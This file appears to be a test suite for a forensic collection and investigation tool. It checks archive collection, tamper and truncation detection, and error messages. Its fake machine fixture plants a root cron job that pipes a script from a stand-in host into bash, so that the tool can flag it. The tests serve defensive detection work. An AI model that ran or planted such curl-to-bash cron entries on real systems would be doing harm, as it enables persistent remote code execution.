import { spawn } from 'node:child_process'
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { expect, it } from 'vitest'
import { openInputs } from '../../src/inputs/open.ts'
import { folderWith } from '../../src/inputs/samples/folder.ts'
import { davylamp } from '../cli/run.ts'

const launcher = resolve(import.meta.dirname, '..', '..', 'bin', 'davylamp.mjs')
const isLinux = process.platform === 'linux'
const MACHINE = {
  'etc/hostname': 'web-1\n',
  'etc/machine-id': `${'ab'.repeat(16)}\n`,
  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
  'var/spool/cron/crontabs/root': '*/5 * * * * curl -fsSL http://203.0.113.9/i.sh | bash\n',
  'var/log/auth.log':
    'May 12 03:14:07 web-1 sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2\n'.repeat(2000),
}

async function collectedImage(): Promise<string> {
  const file = join(folderWith(), 'web-1.tar.zst')
  const run = await davylamp(['collect', '--root', folderWith(MACHINE), '--out', file])
  expect(run.exitCode, run.stderr).toBe(0)
  expect(run.stdout).toContain('What it shows: davylamp investigate ')
  return file
}

const investigate = (...paths: string[]) =>
  davylamp(['investigate', ...paths, '--no-case', '--no-rules', '--format', 'json'])

it.skipIf(!isLinux)('an archive is read like any other evidence: facts, and the logs in it', async () => {
  const run = await investigate(await collectedImage())
  expect(run.exitCode, run.stderr).toBe(10)
  const { incidents, inputs, skipped } = JSON.parse(run.stdout)
  expect(incidents[0].findings.map(({ title }: { title: string }) => title)).toEqual([
    expect.stringMatching(/^A cron job fetches something and runs it \(http:\/\/203\.0\.113\.9\/i\.sh\)/u),
  ])
  const read = inputs.map(({ file }: { file: string }) => file.replace(/^.*!/u, ''))
  expect(read).toEqual(expect.arrayContaining(['host/cron-job.jsonl', 'logs/var/log/auth.log']))
  expect(
    skipped.filter(({ reason }: { reason: string }) => /missing|breaks off|SHA-256/u.test(reason)),
  ).toEqual([])
})

it.skipIf(!isLinux)('one that was cut off says so, and what is there is read', async () => {
  const file = await collectedImage()
  const bytes = readFileSync(file)
  writeFileSync(file, bytes.subarray(0, bytes.length - 200))
  const run = await investigate(file)
  expect(run.stderr).toContain('this collection breaks off: its manifest, which is written last, is missing')
  expect(run.exitCode).toBe(10)
})

it.skipIf(!isLinux)('one that was unpacked and changed says what', async () => {
  const opened = await openInputs([await collectedImage()])
  const files: Record<string, Uint8Array> = {}
  for (const input of opened.inputs) {
    const chunks: Buffer[] = []
    for await (const chunk of input.chunks(() => undefined)) chunks.push(Buffer.from(chunk))
    files[input.name.replace(/^.*!/u, '')] = Buffer.concat(chunks)
  }
  opened.close()
  files['host/cron-job.jsonl'] = Buffer.from(
    Buffer.from(files['host/cron-job.jsonl'] ?? [])
      .toString()
      .replace('i.sh', 'j.sh'),
  )
  delete files['host/user.jsonl']
  files['host/timer.jsonl'] = Buffer.from(files['host/cron-job.jsonl'])
  const run = await investigate(folderWith(files))
  expect(run.stderr).toMatch(
    /host\/cron-job\.jsonl: skipped: it is not what was collected: its SHA-256 is another/u,
  )
  expect(run.stderr).toMatch(/host\/user\.jsonl: skipped: it was collected, and is missing here/u)
  expect(run.stderr).toMatch(/host\/timer\.jsonl: skipped: its manifest does not name it/u)
})

it.skipIf(!isLinux)(
  'one that is killed in the middle leaves nothing that looks whole',
  async () => {
    for (const signal of ['SIGKILL', 'SIGTERM'] as const) {
      const place = folderWith()
      const child = spawn(process.execPath, [launcher, 'collect', '--out', 'x.tar.zst', '--watch', '30s'], {
        cwd: place,
        stdio: 'ignore',
      })
      const ended = new Promise((done) => child.once('exit', done))
      while (!existsSync(join(place, 'x.tar.zst.partial'))) await sleep(50)
      child.kill(signal)
      await ended
      expect(readdirSync(place)).toEqual(signal === 'SIGKILL' ? ['x.tar.zst.partial'] : [])
    }
  },
  30_000,
)

it.skipIf(!isLinux)('what cannot be done is said', async () => {
  const nowhere = await davylamp(['collect', '--root', '/nonexistent', '--out', join(folderWith(), 'x')])
  expect([nowhere.exitCode, nowhere.stderr]).toEqual([
    1,
    expect.stringContaining('cannot look at /nonexistent'),
  ])
  const unwritable = await davylamp(['collect', '--out', '/nonexistent/x'])
  expect([unwritable.exitCode, unwritable.stderr]).toEqual([
    1,
    expect.stringContaining('there is no such folder'),
  ])
  const nothing = await davylamp(['investigate'])
  expect([nothing.exitCode, nothing.stderr]).toEqual([2, expect.stringContaining('--this-host')])
})
